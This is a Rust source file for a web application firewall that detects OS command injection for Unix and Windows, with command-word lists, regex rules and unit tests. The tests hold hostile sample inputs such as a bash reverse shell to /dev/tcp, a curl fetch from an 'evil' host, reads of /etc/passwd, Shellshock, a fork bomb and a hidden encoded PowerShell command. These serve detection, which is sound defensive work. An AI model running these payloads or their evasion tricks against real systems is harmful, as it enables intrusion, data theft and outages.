//! OS command injection, Unix and Windows (CRS 932xxx territory).
//!
//! The core signal is a command word where a shell would start a command: after `;`, `|`,
//! `&`, `&&`, `||`, a newline, a backtick or `$(`, or at the very start of a value when it is
//! followed by shell-looking arguments. Commands are split in two lists: words that are never
//! English (`whoami`, `wget`, `chmod`) fire after any separator; words that are (`cat`, `find`,
//! `kill`) need an option, a path or a variable as argument. Rules read the `cmdline` view, so
//! quote and backslash evasion (`w'h'o'am'i`, `c\at`), `$IFS` and `${x}` tricks are undone.
//! Shell syntax that is an attack on its own (Shellshock, `$(...)`, brace expansion, fork
//! bombs, history and tilde expansion, PowerShell cmdlets, Windows `FOR`/`IF`) has its own rules.

use super::builtin::{RxRule, View};
use super::{RuleHit, Value};
use crate::category::COMMAND_INJECTION as CAT;
use crate::placement::scope;
use crate::Severity::{Critical, High};

/// Where command rules look: parameters and their names, cookies, XML/multipart fields.
const WHERE: u32 = scope::PAYLOAD;

/// Commands that are not English words: any separator before them is enough.
pub const STRONG: &[&str] = &[
    "whoami",
    "uname",
    "wget",
    "curl",
    "ncat",
    "netcat",
    "nc",
    "bash",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "sh",
    "python3",
    "nmap",
    "ifconfig",
    "chmod",
    "chown",
    "chgrp",
    "rm",
    "mkfifo",
    "mknod",
    "telnet",
    "socat",
    "busybox",
    "base64",
    "xxd",
    "nslookup",
    "netstat",
    "pkill",
    "killall",
    "crontab",
    "useradd",
    "adduser",
    "usermod",
    "userdel",
    "passwd",
    "sudo",
    "printenv",
    "nohup",
    "setsid",
    "chroot",
    "systemctl",
    "lastlog",
    "getent",
    "hexdump",
    "openssl",
    "rsync",
    "sendmail",
    "aria2c",
    "powershell",
    "pwsh",
    "certutil",
    "bitsadmin",
    "wmic",
    "systeminfo",
    "tasklist",
    "taskkill",
    "schtasks",
    "icacls",
    "cacls",
    "ipconfig",
    "netsh",
    "mshta",
    "rundll32",
    "regsvr32",
    "cscript",
    "wscript",
    "msiexec",
    "bcdedit",
    "bcdboot",
    "vssadmin",
    "wevtutil",
    "takeown",
    "nltest",
    "dsquery",
    "tftp",
    "scp",
    "ssh",
    "uptime",
    "ldd",
    "traceroute",
    "tracert",
    "whois",
    "sqlite3",
    "nmcli",
    "iptables",
    "insmod",
    "modprobe",
    "dmesg",
    "lsof",
    "fuser",
    "strace",
    "ltrace",
    "gdb",
    "objdump",
    "readelf",
    "awk",
    "gawk",
    "sed",
    "xargs",
    "egrep",
    "fgrep",
    "grep",
    "pwd",
    "tac",
    "nl",
    "xterm",
    "unshare",
    "nsenter",
    "ncat",
    "cmd",
    "regedit",
    "reg",
    "sh5",
    "bsh",
    // Package managers, configuration management, tracing and other admin tools.
    "apt-get",
    "aptitude",
    "dpkg",
    "rpm",
    "dnf",
    "zypper",
    "opkg",
    "pipx",
    "easy_install",
    "cpan",
    "ansible",
    "ansible-playbook",
    "ansible-vault",
    "ansible-galaxy",
    "ansible-config",
    "ansible-console",
    "ansible-doc",
    "ansible-inventory",
    "ansible-pull",
    "chef-client",
    "chef-shell",
    "chef-run",
    "chef-vault",
    "cscli",
    "visudo",
    "vipw",
    "vigr",
    "perf",
    "flock",
    "cpulimit",
    "bsdtar",
    "irb",
    "c89",
    "c99",
    "rmt",
    "rmt-tar",
    "rmt-dump",
    "lastlogin",
    "aa-disable",
    "aa-status",
    "apparmor_parser",
    "htop",
    "btop",
    "base32",
    "basenc",
    "bpftrace",
    "busctl",
    "capsh",
    "certbot",
    "cpio",
    "csplit",
    "debugfs",
    "dmidecode",
    "dmsetup",
    "exiftool",
    "fping",
    "gcore",
    "hping3",
    "nping",
    "iconv",
    "ionice",
    "journalctl",
    "jjs",
    "jrunscript",
    "ldconfig",
    "lftp",
    "loginctl",
    "logsave",
    "lwp-download",
    "lwp-request",
    "mawk",
    "nawk",
    "minicom",
    "msfconsole",
    "msfvenom",
    "nasm",
    "ncftp",
    "neofetch",
    "nft",
    "ntpdate",
    "openvpn",
    "openvt",
    "pdflatex",
    "pkexec",
    "psftp",
    "rlogin",
    "rlwrap",
    "rpmquery",
    "setarch",
    "setfacl",
    "getfacl",
    "shuf",
    "smbclient",
    "sshpass",
    "ssh-keygen",
    "ssh-keyscan",
    "ssh-copy-id",
    "ssh-agent",
    "start-stop-daemon",
    "stdbuf",
    "sysctl",
    "systemd-run",
    "taskset",
    "tclsh",
    "tcpdump",
    "tshark",
    "timedatectl",
    "tmux",
    "torify",
    "torsocks",
    "unsquashfs",
    "update-alternatives",
    "uudecode",
    "uuencode",
    "valgrind",
    "virsh",
    "whiptail",
    "xdotool",
    "yash",
    "hashcat",
    "podman",
    "crictl",
    "kubeadm",
    "sqlmap",
    "gpg",
    "ftp",
    "sftp",
    "nsupdate",
    "arping",
    "ncat",
    "rcp",
    "rsh",
];

/// Commands that are English words too: they need shell-looking arguments.
pub const WEAK: &[&str] = &[
    "cat",
    "ls",
    "id",
    "ps",
    "ping",
    "echo",
    "printf",
    "env",
    "export",
    "eval",
    "exec",
    "sleep",
    "timeout",
    "find",
    "tee",
    "head",
    "tail",
    "more",
    "less",
    "vi",
    "vim",
    "nano",
    "diff",
    "file",
    "stat",
    "touch",
    "mkdir",
    "cp",
    "mv",
    "ln",
    "df",
    "du",
    "free",
    "top",
    "history",
    "set",
    "source",
    "kill",
    "wall",
    "mail",
    "fetch",
    "tar",
    "zip",
    "unzip",
    "gzip",
    "gunzip",
    "dd",
    "od",
    "strings",
    "cut",
    "sort",
    "uniq",
    "wc",
    "column",
    "dig",
    "host",
    "who",
    "last",
    "groups",
    "mount",
    "make",
    "java",
    "javac",
    "node",
    "type",
    "dir",
    "copy",
    "del",
    "net",
    "sc",
    "route",
    "arp",
    "cd",
    "ip",
    "ss",
    "su",
    "time",
    "watch",
    "nice",
    "rev",
    "paste",
    "split",
    "join",
    "expand",
    "fold",
    "look",
    "locate",
    "which",
    "whereis",
    "apt",
    "yum",
    "pip",
    "npm",
    "gem",
    "git",
    "svn",
    "ftp",
    "start",
    "call",
    "ver",
    "vol",
    "rd",
    "md",
    "python",
    "python2",
    "perl",
    "ruby",
    "php",
    "lua",
    "dash",
    "lynx",
    "docker",
    "kubectl",
    "mysql",
    "psql",
    "gcc",
    "w3m",
    "trap",
    "ll",
    "ex",
    "script",
    "screen",
    "aws",
    "helm",
    "terraform",
    "knife",
    "view",
];

/// Weak commands that are an attack even with no argument at the end of a value after a
/// separator (`;id`, `|ls`): none of them ends an English sentence.
pub const BARE: &[&str] = &[
    "ls", "id", "ps", "pwd", "env", "dir", "ver", "vol", "uname", "whoami",
];

/// Weak commands that commonly start ordinary values (`sort -name`, `date -1d`): never read as
/// a command at the start of a value.
const START_EXCLUDED: &[&str] = &[
    "sort", "date", "time", "top", "set", "type", "more", "less", "head", "tail", "make", "file",
    "host", "copy", "free", "last", "who", "mail", "write", "at", "route", "net", "start", "call",
    "look", "join", "split", "fold", "expand", "paste", "nice", "watch", "rev", "which", "locate",
    "groups", "cut", "source", "stat", "touch", "del", "md", "rd", "vol", "ver", "dir", "sc", "ss",
];

fn alt(words: &[&str]) -> String {
    let mut w: Vec<&str> = words.to_vec();
    // Longest first so `python3` wins over `python` in the alternation.
    w.sort_by(|a, b| b.len().cmp(&a.len()).then(a.cmp(b)));
    w.dedup();
    w.iter()
        .map(|s| regex::escape(s))
        .collect::<Vec<_>>()
        .join("|")
}

/// Optional path before a command: `/bin/`, `/usr/local/sbin/`, `c:\windows\system32\`.
const BIN: &str = r"(?:(?:/usr)?(?:/local)?/s?bin/|[a-z]:[/\\](?:windows[/\\]system32[/\\])?)?";

/// Commands that run the command after them (`time curl ...`, `nice -n 5 sh ...`).
const PREFIX: &str = r"(?:(?:sudo|time|nice(?:\s+-n\s*-?\d+)?|nohup|timeout\s+\d+[smh]?|env(?:\s+[a-z_]+=\S*)*|strace|ltrace|stdbuf(?:\s+-\S+)*|ionice|chroot\s+\S+|exec|command|builtin|busybox)\s+)*";

/// Separator that starts a command.
const SEP: &str = r"(?:^|[;|&\n`(]|\$\()\s*";

/// Shell-looking argument: an option, a path, a variable, a redirect, a URL.
const SHELL_ARG: &str = r#"\s+(?:-{1,2}[a-z0-9]|[/~$.\\<>|]|[a-z]:\\|https?:|\{|\d+\s*[|;&])"#;

fn literals(words: &[&'static str]) -> Vec<std::borrow::Cow<'static, str>> {
    words
        .iter()
        .map(|w| std::borrow::Cow::Borrowed(*w))
        .collect()
}

/// The table rules.
pub fn rules() -> Vec<RxRule> {
    let strong = alt(STRONG);
    let weak = alt(WEAK);
    let bare = alt(BARE);
    let mut cmd_after_sep = RxRule::new(
        "rce.unix_command",
        CAT,
        Critical,
        1,
        View::Cmdline,
        WHERE,
        &[],
        format!(
            r"(?:{SEP}{PREFIX}{BIN}(?:{strong})(?:\.exe)?(?:$|[\s;|&<>`)]|\$\()|{SEP}{PREFIX}{BIN}(?:{weak})(?:\.exe)?(?:{SHELL_ARG}|\s*[;|&<>`])|[;|&\n`]\s*(?:{bare})\s*(?:$|[;|&`)]))"
        ),
    );
    // `^cmd` alone is the value's start; a separator must have been seen for every other
    // alternative, so literals are the separators plus a start-of-value command word.
    cmd_after_sep.literals = literals(&[";", "|", "&", "\n", "`", "$(", "("]);
    let weak_start: Vec<&str> = WEAK
        .iter()
        .copied()
        .filter(|w| !START_EXCLUDED.contains(w))
        .collect();
    let weak_start = alt(&weak_start);
    let cmd_at_start = {
        let mut r = RxRule::new(
            "rce.unix_command_start",
            CAT,
            Critical,
            1,
            View::Cmdline,
            WHERE,
            &[],
            format!(
                r"^\s*{PREFIX}{BIN}(?:(?:{strong})(?:\.exe)?{SHELL_ARG}|(?:{weak_start})(?:\.exe)?{SHELL_ARG})"
            ),
        );
        let mut l: Vec<&'static str> = STRONG.to_vec();
        l.extend_from_slice(WEAK);
        l.extend_from_slice(&[
            "sudo", "time", "nice", "nohup", "timeout", "env", "strace", "ltrace", "stdbuf",
            "ionice", "chroot", "exec", "command", "builtin", "busybox",
        ]);
        r.literals = literals(&l);
        r.start_words = true;
        r
    };
    let bin_path = RxRule::new(
        "rce.bin_path",
        CAT,
        Critical,
        1,
        View::Cmdline,
        WHERE,
        &["/bin/", "/sbin/"],
        r#"(?:^|[\s;|&`(=])(?:/usr)?(?:/local)?/s?bin/(?:[a-z0-9_.+-]+)(?:$|[\s;|&<>`)])"#,
    );
    let substitution = RxRule::new(
        "rce.shell_substitution",
        CAT,
        Critical,
        1,
        View::Folded,
        WHERE,
        &["$(", "${", "<(", ">(", "`"],
        format!(
            r"\$\(\s*[a-z/(]|\$\{{\s*(?:{strong}|{weak})\b[^{{}}]{{0,64}}\}}|(?:^|[\s;|&])[<>]\(\s*[a-z/]|`\s*(?:{strong}|{weak})(?:\s[^`]*)?`"
        ),
    );
    let variable = RxRule::new(
        "rce.shell_variable",
        CAT,
        Critical,
        2,
        View::Folded,
        WHERE,
        &["${"],
        r"\$\{[^{}\s]{1,64}\}",
    );
    let shellshock = RxRule::new(
        "rce.shellshock",
        CAT,
        Critical,
        1,
        View::Folded,
        scope::ALL,
        &["("],
        r"^\s*\(\s*\)\s*\{",
    );
    let windows = RxRule::new(
        "rce.windows_command",
        CAT,
        Critical,
        1,
        View::Cmdline,
        WHERE,
        &[
            "cmd",
            "powershell",
            "pwsh",
            "certutil",
            "bitsadmin",
            "wmic",
            "reg",
            "net",
            "schtasks",
            "tasklist",
            "taskkill",
            "systeminfo",
            "ipconfig",
            "netsh",
            "mshta",
            "rundll32",
            "regsvr32",
            "cscript",
            "wscript",
            "bcdboot",
            "bcdedit",
            "vssadmin",
            "type",
            "dir",
            "copy",
            "del",
            "at ",
            "start",
        ],
        r"(?:^|[;&|\n])\s*(?:cmd(?:\.exe)?\s*/[ckr]|(?:powershell|pwsh)(?:\.exe)?(?:\s|$)|certutil(?:\.exe)?\s+-|bitsadmin(?:\.exe)?\s+/|wmic(?:\.exe)?\s|reg(?:\.exe)?\s+(?:add|query|delete|save|export|import)\s|regedit(?:\.exe)?\s+/|net1?(?:\.exe)?\s+(?:user|localgroup|group|view|use|share|start|stop|accounts|session)\b|schtasks(?:\.exe)?\s+/|tasklist(?:\.exe)?\b|taskkill(?:\.exe)?\s+/|systeminfo(?:\.exe)?\b|ipconfig(?:\.exe)?\b|netsh(?:\.exe)?\s|mshta(?:\.exe)?\s|rundll32(?:\.exe)?\s|regsvr32(?:\.exe)?\s|[cw]script(?:\.exe)?\s|bcdboot(?:\.exe)?\s|bcdedit(?:\.exe)?\s|vssadmin(?:\.exe)?\s|(?:type|dir|copy|del)\s+(?:[a-z]:\\|/[a-z]\b|\\\\)|at\s+\d{1,2}:\d\d|start\s+(?:/b\s+)?[a-z]+\.exe)",
    );
    let powershell = RxRule::new(
        "rce.powershell",
        CAT,
        Critical,
        1,
        View::Folded,
        WHERE | scope::HEADER,
        &[
            "invoke-",
            "new-object",
            "downloadstring",
            "downloadfile",
            "start-process",
            "set-executionpolicy",
            "-encodedcommand",
            "-enc ",
            "iex",
            "iwr",
            "irm",
            "iwmi",
            "get-wmiobject",
            "frombase64string",
            "add-mppreference",
            "-noprofile",
            "-windowstyle",
            "-executionpolicy",
        ],
        r"invoke-(?:webrequest|expression|restmethod|command|item|wmimethod|shellcode|mimikatz)\b|new-object\s+(?:-typename\s+)?(?:system\.)?net\.(?:webclient|sockets)|\.download(?:string|file|data)\s*\(|start-process\b|set-executionpolicy\b|-encodedcommand\b|\s-enc\s+[a-z0-9+/=]{16,}|(?:^|[;|&\s(])iex\s*[($]|(?:^|[;|&])\s*(?:iwr|irm)\s+\S|(?:^|[;|&])\s*iwmi\s+-|get-wmiobject\s+|\[(?:system\.)?convert\]::frombase64string|add-mppreference\b|\s-(?:noprofile|windowstyle\s+hidden|executionpolicy\s+bypass)\b",
    );
    let windows_for = RxRule::new(
        "rce.windows_for_if",
        CAT,
        Critical,
        1,
        View::Folded,
        WHERE,
        &["for", "if"],
        r#"\bfor\s+(?:/[a-z](?:\s+"[^"]*"|\s+[^\s%]+)?\s+)*%{1,2}\S{1,24}\s+in\s*\(|\bif\s+(?:/i\s+)?(?:not\s+)?(?:exist\s|defined\s|errorlevel\s+\d|cmdextversion\s|\S{1,40}\s*(?:==|\s(?:equ|neq|lss|leq|gtr|geq)\s))"#,
    );
    let glob = RxRule::new(
        "rce.path_glob",
        CAT,
        Critical,
        1,
        View::Cmdline,
        WHERE,
        &[
            "/bin", "/usr", "/etc", "/tmp", "/dev", "/proc", "/var", "/sbin", "/home", "/root",
            "/opt", "/lib", "$[",
        ],
        r"(?:^|[\s;|&`=])/(?:bin|usr|etc|tmp|dev|proc|var|sbin|home|root|opt|lib)/[a-z0-9_./-]*\[!?\^?[a-z0-9-]{1,12}\][a-z0-9_./-]*|\$\[[^\]]{1,40}\]",
    );
    let param_expansion = RxRule::new(
        "rce.parameter_expansion",
        CAT,
        Critical,
        1,
        View::Folded,
        WHERE,
        &["${", "$shell", "$bash", "$0"],
        r"\$\{[a-z_][a-z0-9_]*(?:[#%^,]|:[-=?+]|/|:\d)|\$\{#?[a-z_][a-z0-9_]*\[[@*]\]\}|\$\{![a-z_]|(?:^|[\s;|&`])\$(?:shell|bash|0)\s+-c\b",
    );
    let empty_subst = RxRule::new(
        "rce.empty_substitution",
        CAT,
        Critical,
        2,
        View::Folded,
        WHERE,
        &["$()", "``", "<()", ">()", "${}"],
        r"[a-z0-9](?:\$\(\s*\)|``|[<>]\(\s*\)|\$\{\s*\})|(?:\$\(\s*\)|``|[<>]\(\s*\)|\$\{\s*\})[a-z0-9]",
    );
    let brace = RxRule::new(
        "rce.brace_expansion",
        CAT,
        Critical,
        1,
        View::Folded,
        WHERE,
        &["{"],
        r"[a-z]\{[a-z0-9_./-]*,[a-z0-9_./ -]*\}|\{[a-z0-9_./-]*,[a-z0-9_./ -]*\}[a-z]|\{,[a-z/]|\{[a-z]+,-[a-z]",
    );
    let brace_pl2 = RxRule::new(
        "rce.brace_expansion_any",
        CAT,
        Critical,
        2,
        View::Folded,
        WHERE,
        &["{"],
        r"\{[a-z0-9_./-]+(?:,[a-z0-9_./# -]*)+\}",
    );
    let evasion = RxRule::new(
        "rce.ifs_evasion",
        CAT,
        Critical,
        1,
        View::Folded,
        WHERE,
        &["$ifs", "${ifs", "$@", "$*"],
        r"\$\{?ifs\b|[a-z]\$[@*][a-z]",
    );
    let wildcard = RxRule::new(
        "rce.path_wildcard",
        CAT,
        Critical,
        2,
        View::Cmdline,
        WHERE,
        &["?", "*", "${"],
        r"(?:^|[\s;|&`=])/(?:bin|usr|etc|tmp|dev|proc|var|sbin|home|root|opt|lib)/[a-z0-9?*/]*[?*]|/[a-z?]*\?[a-z?]*/[a-z?*]*[?*]|(?:^|[\s/])(?:etc|bin)/\$\{?[a-z0-9_]*\}?[a-z]+",
    );
    let alias = RxRule::new(
        "rce.alias",
        CAT,
        Critical,
        1,
        View::Cmdline,
        WHERE,
        &["alias"],
        r"(?:^|[\s;|&`])alias\s+[a-z0-9_.-]+=",
    );
    let history = RxRule::new(
        "rce.history_expansion",
        CAT,
        Critical,
        1,
        View::Folded,
        WHERE,
        &["!-"],
        r"(?:^|[\s;|&!])!-\d+(?:$|[\s!;|&])",
    );
    let tilde = RxRule::new(
        "rce.tilde_expansion",
        CAT,
        Critical,
        1,
        View::Folded,
        WHERE,
        &["~+", "~-"],
        r"(?:^|[\s;|&])~[+-](?:$|[\s/;|&])",
    );
    let fork_bomb = RxRule::new(
        "rce.fork_bomb",
        CAT,
        Critical,
        1,
        View::Folded,
        WHERE,
        &["()"],
        r"\(\)\s*\{[^}]{0,24}\|[^}]{0,24}&\s*\}",
    );
    let sqlite = RxRule::new(
        "rce.sqlite_shell",
        CAT,
        Critical,
        2,
        View::Decoded,
        WHERE,
        &[".shell", ".system", ". shell", ". system"],
        r#"(?im)(?:^|[;\n])[\s;"']*\.\s*(?:shell|system)\s+\S"#,
    );
    let mail = RxRule::new(
        "rce.mail_protocol_command",
        CAT,
        Critical,
        2,
        View::Decoded,
        WHERE,
        &["\n", "\r"],
        r"(?i)[\r\n]\s*(?:mail\s+from\s*:|rcpt\s+to\s*:|helo\s+\S|ehlo\s+\S|vrfy\s+\S|expn\s+\S|data\s*(?:[\r\n]|$)|quit\s*(?:[\r\n]|$)|rset\s*(?:[\r\n]|$)|starttls\b|auth\s+(?:login|plain|cram-md5)|retr\s+\d|dele\s+\d|(?:user|pass|apop)\s+\S+\s*(?:[\r\n]|$)|[a-z]{1,4}\d{1,4}\s+(?:append|select|examine|login|fetch|store|copy|delete|capability|logout|list|lsub|status|uid|search|create|rename|subscribe)\b)",
    );
    let header_cmd = RxRule::new(
        "rce.unix_command_header",
        CAT,
        Critical,
        2,
        View::Cmdline,
        scope::USER_AGENT | scope::REFERER,
        &[";", "|", "&", "`", "$("],
        format!(r"(?:[;|&`]|\$\()\s*{PREFIX}{BIN}(?:{strong})(?:$|[\s;|&<>`)])"),
    );
    let start_header = cmd_at_start.also(
        "rce.unix_command_start_header",
        scope::USER_AGENT | scope::REFERER,
        2,
    );
    let mut out = vec![
        start_header,
        cmd_after_sep,
        cmd_at_start,
        bin_path,
        substitution,
        variable,
        shellshock,
        windows,
        powershell,
        windows_for,
        glob,
        param_expansion,
        empty_subst,
        brace,
        brace_pl2,
        evasion,
        wildcard,
        alias,
        history,
        tilde,
        fork_bomb,
        sqlite,
        mail,
        header_cmd,
    ];
    out.push(RxRule::new(
        "rce.shell_substitution_header",
        CAT,
        Critical,
        2,
        View::Folded,
        scope::HEADER,
        &["$(", "`"],
        r"\$\(\s*[a-z/(]|`\s*[a-z/]+[^`]*`",
    ));
    out
}

/// Code check: a command word that only appears once quotes, backslashes or carets are
/// removed (`w'h'o'am'i`, `c\at`): nobody writes a command that way but to evade.
pub fn check(v: &Value<'_>, sc: u32, out: &mut Vec<RuleHit>) {
    if sc & WHERE == 0 || v.cmdline.len() == v.folded.len() {
        return;
    }
    let evaded = v
        .folded
        .bytes()
        .any(|b| matches!(b, b'\'' | b'"' | b'\\' | b'^'));
    if !evaded {
        return;
    }
    for word in v.cmdline.split(|c: char| !c.is_ascii_alphanumeric()) {
        if word.len() >= 3 && STRONG.contains(&word) && !contains_word(v.folded, word) {
            out.push(RuleHit {
                rule: "rce.quote_evasion",
                category: CAT,
                severity: High,
                paranoia: 2,
                span: 0..0,
            });
            return;
        }
    }
}

fn contains_word(text: &str, word: &str) -> bool {
    text.split(|c: char| !c.is_ascii_alphanumeric())
        .any(|w| w == word)
}

#[cfg(test)]
mod tests {
    use super::super::builtin::testing::{fires, ids_at};

    #[test]
    fn unix_injection_after_separators_is_caught() {
        for v in [
            "1; cat /etc/passwd",
            "x|id",
            "127.0.0.1 && whoami",
            "a`uname -a`",
            "$(curl http://evil/x.sh)",
            ";ps",
            "1;w'h'o'am'i",
            "x;c\\at /e\\tc/pa\\sswd",
            "foo;wget${IFS}http://x/y",
            "ls -la /",
            "/bin/sh -c id",
            "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
            "() { :; }; /bin/bash -c id",
            "cat$IFS/etc/passwd",
            "c{a,oun}t",
            "{l,-lh}s",
            ":(){ :|:& };:",
            "alias a=id",
            "!-1!-2",
        ] {
            assert!(fires(v, "rce.", 1), "{v}: {:?}", ids_at(v, 4));
        }
    }

    #[test]
    fn windows_injection_is_caught() {
        for v in [
            "x & cmd /c dir",
            "Invoke-WebRequest http://example.com/path/file.ps1",
            ";iwr http://example.com/file.ps1",
            "for %variable in (set) do command",
            "for /f %%i in ('dir') do echo",
            "if exist c:\\boot.ini echo",
            "; regedit /E c:\\a.reg HKEY_CURRENT_USER",
            "powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwA=",
        ] {
            assert!(fires(v, "rce.", 1), "{v}: {:?}", ids_at(v, 4));
        }
    }

    #[test]
    fn prose_and_data_are_not_caught() {
        for v in [
            "a & b",
            "Tom & Jerry",
            "black & white | more",
            "salt & pepper; find out more",
            "cat food is great",
            "bash",
            "I ate; then slept",
            "O'Brien",
            "select a union rep",
            "rock & roll",
            "R&D",
            "price: $5 (approx)",
            "{a,b}",
            "Hello ${name}",
            "function () { return 1 }",
            "id",
            "sort -name",
            "it's 'quoted' text",
            "curl/7.68.0",
            "python-requests/2.31",
            "for each item in the list",
            "if not, then what",
        ] {
            assert!(!fires(v, "rce.", 1), "{v}: {:?}", ids_at(v, 1));
        }
    }
}
